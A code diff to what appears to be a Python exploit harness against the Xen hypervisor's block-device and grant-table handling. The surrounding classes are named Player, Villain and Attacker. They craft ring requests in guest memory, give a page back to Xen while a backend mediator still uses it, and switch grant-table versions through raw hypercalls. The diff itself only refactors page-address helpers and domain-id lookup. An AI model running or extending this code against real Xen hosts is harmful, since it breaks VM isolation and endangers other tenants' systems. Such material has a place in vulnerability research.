@@ -75,7 +75,7 @@ class Player(FrontendProcess):
         Returns `status`, or `closed`: the mediator took it for a lie and closed the device. It is connected anew.
         """
         villain = Villain(self._frontend, 0)
-        header, status = self._page(HEADER_PAGE), self._page(STATUS_PAGE)
+        header, status = self._gpa(HEADER_PAGE * PAGE), self._gpa(STATUS_PAGE * PAGE)
         self._driver.memory(header, 16)[:] = struct.pack("<IIQ", blk.OUT, 0, 64)
         self._driver.memory(status, 1)[:] = b"\xff"
         ring = villain.ring
@@ -93,7 +93,7 @@ class Player(FrontendProcess):
         Uses a page honestly, so that the mediator knows it as RAM, gives it back to Xen, and offers it again. Puts
         another page in its place in the end: our kernel would die of the hole.
         """
-        gpa = self._page(VICTIM_PAGE)
+        gpa = self._gpa(VICTIM_PAGE * PAGE)
         gfn = gpa // PAGE
         first = self._one(Request(blk.OUT, 64, gpa, PAGE))
         self._reservation(DECREASE_RESERVATION, gfn)
@@ -107,9 +107,6 @@ class Player(FrontendProcess):
         """Asks Xen for another grant table version; 0, or -errno."""
         wanted = ctypes.c_uint32(version)
         return hypercall(GRANT_TABLE_OP, SET_VERSION, ctypes.addressof(wanted), 1)
-
-    def _page(self, number: int) -> int:
-        return self._driver.gpa(self._first_page + number)
 
     def _until_used_or_closed(self, villain: Villain, before: int) -> bool:
         for _ in range(600):
@@ -137,7 +134,7 @@ class Attacker:
 
     def __init__(self) -> None:
         self._hypervisor = Hypervisor("backend", None)
-        own = os.environ.get("OWN_DOMID") or os.popen("xenstore-read domid").read()  # noqa: S605, S607
+        own = os.popen("xenstore-read domid").read()  # noqa: S605, S607
         self._hypervisor.set_domid(int(own))
         self._prober = Prober(self._hypervisor)
 
